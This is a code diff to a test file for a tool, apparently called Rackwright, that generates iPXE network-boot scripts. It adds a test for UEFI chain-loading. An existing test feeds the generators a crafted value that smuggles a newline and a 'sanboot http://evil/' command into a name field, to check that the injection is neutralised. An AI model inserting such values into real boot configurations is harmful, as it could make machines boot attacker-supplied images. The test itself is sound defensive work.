@@ -100,7 +100,7 @@ test("an iPXE script cannot be extended by what stands in a name", () => {
   const why = "node\nsanboot http://evil/ ${net0/mac}";
   for (
     const script of [
-      localDiskScript(why),
+      localDiskScript({ why }),
       nothingScript(why),
       ephemeralScript({ serverUrl: "http://192.0.2.1", image, commandLine: "ro", why }),
     ]
@@ -108,4 +108,12 @@ test("an iPXE script cannot be extended by what stands in a name", () => {
     expect(script.startsWith("#!ipxe\n")).toBe(true);
     expect(script.split("\n")[1]).toBe("echo Rackwright: node sanboot http://evil/ $ {net0/mac}");
   }
+});
+
+test("a UEFI machine's disk is started by a program where the site has one", () => {
+  const efiProgramUrl = "http://192.0.2.1:5248/files/local_boot.efi";
+  expect(localDiskScript({ why: "deployed", efiProgramUrl })).toContain(
+    `chain ${efiProgramUrl} ||`,
+  );
+  expect(localDiskScript({ why: "deployed" })).not.toContain("chain");
 });
